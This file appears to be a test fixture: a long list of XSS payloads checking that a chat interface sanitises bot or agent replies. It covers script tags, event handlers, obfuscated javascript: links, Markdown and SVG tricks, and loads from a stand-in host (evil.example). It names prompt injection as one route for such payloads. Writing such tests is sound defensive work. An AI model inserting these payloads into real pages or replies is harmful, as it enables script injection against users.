@@ -1,0 +1,227 @@
+// XSS payloads a bot or agent reply might carry (prompt injection, a hostile agent, a poisoned knowledge base).
+// Each one calls window.__xssCanary() or sets window.__xss if it ever runs. Used by xss.test.ts.
+
+const SCRIPT_B64 = 'PHNjcmlwdD5fX3hzc0NhbmFyeSgpPC9zY3JpcHQ+'; // <script>__xssCanary()</script>
+const SVG_B64 = 'PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iX194c3NDYW5hcnkoKSIvPg==';
+const JS_ENTITIES_DEC = [...'javascript:__xssCanary()'].map((c) => `&#${c.charCodeAt(0)};`).join('');
+const JS_ENTITIES_PADDED = [...'javascript:__xssCanary()'].map((c) => `&#000${c.charCodeAt(0)}`).join('');
+const JS_ENTITIES_HEX = [...'javascript:__xssCanary()']
+  .map((c) => `&#x${c.charCodeAt(0).toString(16)}`)
+  .join('');
+
+export const xssCorpus: readonly string[] = [
+  // Classic script tags
+  '<script>__xssCanary()</script>',
+  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  '<script>window.__xss = 1</script>',
+  '<scr<script>ipt>__xssCanary()</scr</script>ipt>',
+  '<script type="text/javascript">__xssCanary();</script>',
+  '<<SCRIPT>__xssCanary();//<</SCRIPT>',
+  '<script/xss src=//evil.example/x.js></script>',
+  '"><script>__xssCanary()</script>',
+  "'';!--\"<XSS>=&{()}<script>__xssCanary()</script>",
+  '</p><script>__xssCanary()</script><p>',
+  '<script\n>__xssCanary()</script\n>',
+  `<script src="data:text/javascript,__xssCanary()"></script>`,
+
+  // img / body / media event handlers
+  '<img src=x onerror=__xssCanary()>',
+  '<img src="x" onerror="window.__xss=1">',
+  '<IMG SRC=# onmouseover="__xssCanary()">',
+  "<img src=x onerror=eval(atob('X194c3NDYW5hcnkoKQ=='))>",
+  '<IMG """><SCRIPT>__xssCanary()</SCRIPT>">',
+  '<IMG SRC=/ onerror="__xssCanary()"></img>',
+  '<img src=x onerror\u000b=__xssCanary()>',
+  '<img/src=x/onerror=__xssCanary()>',
+  '<img src=x onerror=&#95;&#95;xssCanary()>',
+  '<img src=x onerror="&#0000095;&#0000095;xssCanary()">',
+  '<img srcset="x" onerror="__xssCanary()">',
+  '<img src=x onerror=__xssCanary() //',
+  '<img src="https://ok.example/a.png" alt="x" title="x" onload="__xssCanary()">',
+  '<body onload=__xssCanary()>',
+  '<BODY BACKGROUND="javascript:__xssCanary()">',
+  '<body onpageshow=__xssCanary()>',
+  '<video><source onerror="__xssCanary()"></video>',
+  '<video poster=javascript:__xssCanary() src=x onerror=__xssCanary()></video>',
+  '<audio src=x onerror=__xssCanary()>',
+  '<marquee onstart=__xssCanary()>x</marquee>',
+  '<details open ontoggle=__xssCanary()>',
+  '<div onmouseover="__xssCanary()">hover</div>',
+  '<x onclick=__xssCanary()>click',
+  '<a href="#" onclick="__xssCanary()">x</a>',
+  '<p onanimationstart=__xssCanary() style="animation-name:spin">x</p>',
+
+  // javascript: and friends in image and link attributes, encoded and obfuscated
+  '<img src="javascript:__xssCanary()">',
+  '<IMG SRC=JaVaScRiPt:__xssCanary()>',
+  `<IMG SRC=${JS_ENTITIES_DEC}>`,
+  `<IMG SRC=${JS_ENTITIES_PADDED}>`,
+  `<IMG SRC=${JS_ENTITIES_HEX}>`,
+  '<IMG SRC="jav\tascript:__xssCanary();">',
+  '<IMG SRC="jav&#x09;ascript:__xssCanary();">',
+  '<IMG SRC="jav&#x0A;ascript:__xssCanary();">',
+  '<IMG SRC=" &#14;  javascript:__xssCanary();">',
+  '<IMG DYNSRC="javascript:__xssCanary()">',
+  '<IMG LOWSRC="javascript:__xssCanary()">',
+  '<img src="data:image/png;base64,iVBORw0KGgo=">',
+  '<a href="  javascript:__xssCanary()">x</a>',
+  '<a href="java&#13;script:__xssCanary()">x</a>',
+  '<a href="&#x6A;avascript&colon;__xssCanary()">x</a>',
+  '<a href="javascript&colon;__xssCanary()">x</a>',
+  '<a href="jav&Tab;ascript:__xssCanary()">x</a>',
+  '<a href="java\u0000script:__xssCanary()">x</a>',
+  '<a href="\u0001javascript:__xssCanary()">x</a>',
+  '<a href="javas\u200bcript:__xssCanary()">x</a>',
+  `<a href="data:text/html;base64,${SCRIPT_B64}">x</a>`,
+  '<a href=javascript:__xssCanary() target=_self>x</a>',
+  '<a/href="javascript:__xssCanary()">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="file:///C:/Windows/System32/calc.exe">x</a>',
+  '<a href="https://ok.example" rel="opener" target="_self">x</a>',
+  '<a href="javascript:__xssCanary()">[x](https://ok.example)</a>',
+
+  // Markdown links
+  '[click](javascript:__xssCanary())',
+  '[click](JaVaScRiPt:__xssCanary())',
+  '[click](javascript&#58;__xssCanary())',
+  '[click](&#106;avascript:__xssCanary())',
+  '[click](java&#x09;script:__xssCanary())',
+  '[click](  javascript:__xssCanary())',
+  '[click](<javascript:__xssCanary()>)',
+  '[click](javascript://%0a__xssCanary())',
+  '[click](vbscript:msgbox(1))',
+  `[click](data:text/html;base64,${SCRIPT_B64})`,
+  '[click](data:text/html,<script>__xssCanary()</script>)',
+  '[click](file:///etc/passwd)',
+  '[click](java\u0000script:__xssCanary())',
+  '[click](\u0001javascript:__xssCanary())',
+  '[click](javas\u200bcript:__xssCanary())',
+  "[a](javascript:window['__xssCanary']())",
+  '[a](javascript:__xssCanary() "title")',
+  '[a](https://example.com "x\\" onmouseover=\\"__xssCanary()")',
+  '[a](https://example.com" onmouseover="__xssCanary())',
+  "[a](https://example.com' onmouseover='__xssCanary())",
+  '[a](https://example.com/ "title" onmouseover=__xssCanary())',
+  '[<img src=x onerror=__xssCanary()>](https://ok.example)',
+  '[x](https://ok.example)<script>__xssCanary()</script>',
+  '- [x](javascript:__xssCanary())\n- ![y](javascript:__xssCanary())',
+  '[x](https://ok.example/\njavascript:__xssCanary())',
+  '[x](java\nscript:__xssCanary())',
+
+  // Markdown images and attribute breakouts in alt and title
+  '![x](javascript:__xssCanary())',
+  `![x](data:image/svg+xml;base64,${SVG_B64})`,
+  '![x](data:text/html,<script>__xssCanary()</script>)',
+  '![x" onerror="__xssCanary()](https://example.com/a.png)',
+  '![x](https://example.com/a.png "\\" onerror=\\"__xssCanary()")',
+  '![x](https://example.com/a.png"onerror="__xssCanary())',
+  '![x](x" onerror="__xssCanary())',
+  '![<img src=x onerror=__xssCanary()>](https://example.com/a.png)',
+  "![x](https://example.com/a.png 'x\\' onerror=\\'__xssCanary()')",
+  '![x](https://example.com/a.png "<script>__xssCanary()</script>")',
+
+  // Reference links
+  '[click][1]\n\n[1]: javascript:__xssCanary()',
+  '[click]\n\n[click]: javascript:__xssCanary() "t"',
+  '![img][x]\n\n[x]: data:image/svg+xml,<svg/onload=__xssCanary()>',
+  '[click][r]\n\n[r]: <javascript:__xssCanary()>',
+  '[click][r]\n\n[r]: https://ok.example "a\\" onclick=\\"__xssCanary()"',
+
+  // Autolinks and bare URLs
+  '<javascript:__xssCanary()>',
+  '<data:text/html,<script>__xssCanary()</script>>',
+  '<vbscript:msgbox(1)>',
+  'https://example.com/"><script>__xssCanary()</script>',
+  'www.example.com/<img src=x onerror=__xssCanary()>',
+  'https://example.com/x.png"onerror="__xssCanary()',
+  'https://example.com/a.mp4"><svg onload=__xssCanary()>',
+  'https://example.com/file.pdf?"><img src=x onerror=__xssCanary()>',
+  'mailto:x@example.com?body=<script>__xssCanary()</script>',
+  'http://example.com/a.png?x=" onerror="__xssCanary()',
+
+  // HTML inside table cells
+  '| a | b |\n|---|---|\n| <img src=x onerror=__xssCanary()> | <script>__xssCanary()</script> |',
+  '| a |\n|---|\n| [x](javascript:__xssCanary()) |',
+  '| <a href="javascript:__xssCanary()">x</a> |\n|---|\n| y |',
+  '| a |\n|---|\n| <details open ontoggle=__xssCanary()> |',
+
+  // CSS
+  '<div style="width: expression(__xssCanary());">x</div>',
+  '<p style="background:url(javascript:__xssCanary())">x</p>',
+  '<span style="behavior: url(xss.htc);">x</span>',
+  '<STYLE>li {list-style-image: url("javascript:__xssCanary()");}</STYLE><UL><LI>XSS</UL>',
+  "<style>@import 'javascript:__xssCanary()';</style>",
+  '<a href="https://ok.example" style="position:fixed;top:0;left:0;width:100%;height:100%">x</a>',
+  '<img src=x onerror=__xssCanary() style=x:expression(__xssCanary())>',
+
+  // iframe / object / embed / frames
+  '<iframe src="javascript:__xssCanary()"></iframe>',
+  '<iframe srcdoc="<script>parent.__xssCanary()</script>"></iframe>',
+  '<iframe src=https://evil.example></iframe>',
+  '<object data="javascript:__xssCanary()"></object>',
+  '<object data="data:text/html,<script>__xssCanary()</script>"></object>',
+  `<embed src="data:image/svg+xml;base64,${SVG_B64}">`,
+  '<embed src="javascript:__xssCanary()">',
+  '<object type="text/x-scriptlet" data="https://evil.example/xss.html"></object>',
+  '<applet code="x"></applet>',
+  '<frameset><frame src="javascript:__xssCanary()"></frameset>',
+
+  // Forms
+  '<form action="javascript:__xssCanary()"><input type=submit></form>',
+  '<form><button formaction="javascript:__xssCanary()">x</button></form>',
+  '<button form=f formaction=javascript:__xssCanary()>x</button>',
+  '<input onfocus=__xssCanary() autofocus>',
+  '<isindex type=image src=1 onerror=__xssCanary()>',
+  '<select autofocus onfocus=__xssCanary()>',
+  '<textarea autofocus onfocus=__xssCanary()>',
+  '<keygen autofocus onfocus=__xssCanary()>',
+  '<img src="https://ok.example/a.png" usemap="#m"><map name="m"><area href="javascript:__xssCanary()"></map>',
+
+  // meta / base / link
+  '<meta http-equiv="refresh" content="0;url=javascript:__xssCanary()">',
+  `<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html;base64,${SCRIPT_B64}">`,
+  '<base href="javascript:__xssCanary()//">',
+  '<base href="https://evil.example/">',
+  '<LINK REL="stylesheet" HREF="javascript:__xssCanary();">',
+
+  // SVG
+  '<svg onload=__xssCanary()>',
+  '<svg/onload=__xssCanary()>',
+  '<svg><script>__xssCanary()</script></svg>',
+  '<svg><a xlink:href="javascript:__xssCanary()"><text x="20" y="20">XSS</text></a></svg>',
+  `<svg><use href="data:image/svg+xml;base64,${SVG_B64}#x"></use></svg>`,
+  '<svg><use xlink:href="https://evil.example/x.svg#x"/></svg>',
+  '<svg><animate onbegin=__xssCanary() attributeName=x dur=1s>',
+  '<svg><a><animate attributeName=href values=javascript:__xssCanary() /><text x=20 y=20>Click</text></a></svg>',
+  '<svg><set attributeName="onload" to="__xssCanary()"/></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.__xssCanary()</script>"></iframe></foreignObject></svg>',
+  '<svg><style><img src=x onerror=__xssCanary()></style></svg>',
+  '<svg></p><style><a id="</style><img src=1 onerror=__xssCanary()>">',
+  '<svg></p><title><a href="</title><img src=x onerror=__xssCanary()>">',
+
+  // MathML
+  '<math><mi xlink:href="javascript:__xssCanary()">x</mi></math>',
+  '<math href="javascript:__xssCanary()">CLICK</math>',
+  '<math><maction actiontype="statusline" xlink:href="javascript:__xssCanary()">x</maction></math>',
+  '<math><mtext><table><mglyph><style><img src=x onerror=__xssCanary()>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=__xssCanary()>',
+
+  // template / noscript and other mutation XSS
+  '<template><script>__xssCanary()</script></template>',
+  '<template><img src=x onerror=__xssCanary()></template>',
+  '<noscript><p title="</noscript><img src=x onerror=__xssCanary()>">',
+  '<xmp><p title="</xmp><img src=x onerror=__xssCanary()>">',
+  '<noembed><img title="</noembed><img src=x onerror=__xssCanary()>"></noembed>',
+  '<textarea><img title="</textarea><img src=x onerror=__xssCanary()>"></textarea>',
+  '<!--<img src="--><img src=x onerror=__xssCanary()//">',
+  '<![CDATA[<script>__xssCanary()</script>]]>',
+  '<div id="x" data-x="<img src=x onerror=__xssCanary()>">',
+  '<img src=x onerror=__xssCanary() <!--',
+
+  // Markdown wrappers
+  '`<img src=x onerror=__xssCanary()>`',
+  '```html\n<script>__xssCanary()</script>\n```',
+  '**<script>__xssCanary()</script>**',
+  '> <img src=x onerror=__xssCanary()>',
+  '# <svg onload=__xssCanary()>',
+];
